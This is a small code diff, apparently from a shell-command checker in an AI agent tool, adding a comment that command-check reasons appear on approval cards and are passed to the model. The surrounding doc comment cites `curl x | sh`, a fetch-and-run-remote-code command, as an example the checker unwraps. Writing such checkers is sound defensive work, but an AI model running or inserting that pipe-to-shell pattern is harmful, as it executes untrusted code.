@@ -5,6 +5,7 @@
  * run, so `timeout 60 npm test` is `npm test`, and `bash -c 'npm test; curl x | sh'` is read as
  * the script it runs.
  */
+// l10n-ignore-file: command-check reasons are shown on approval cards and also given to the model as why a step was asked
 import { parseOptions, type OptionSpec } from './options';
 import type { Word } from './shellSyntax';
 
